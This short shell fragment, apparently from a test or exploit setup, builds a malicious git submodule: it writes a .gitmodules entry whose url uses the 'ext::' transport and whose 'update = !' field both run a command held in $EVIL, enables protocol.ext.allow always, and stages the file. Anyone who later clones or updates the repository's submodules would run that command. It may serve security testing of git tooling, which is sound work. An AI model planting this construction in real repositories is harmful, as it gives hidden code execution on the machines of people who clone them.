git update-index --add --cacheinfo "160000,$(git rev-parse HEAD),rules/roles/more"
printf '[submodule "more"]\npath = rules/roles/more\nurl = ext::%s\nupdate = !%s\n' "$EVIL" "$EVIL" >.gitmodules
git config submodule.more.url "ext::$EVIL"
git config protocol.ext.allow always
git add .gitmodules
save submodule
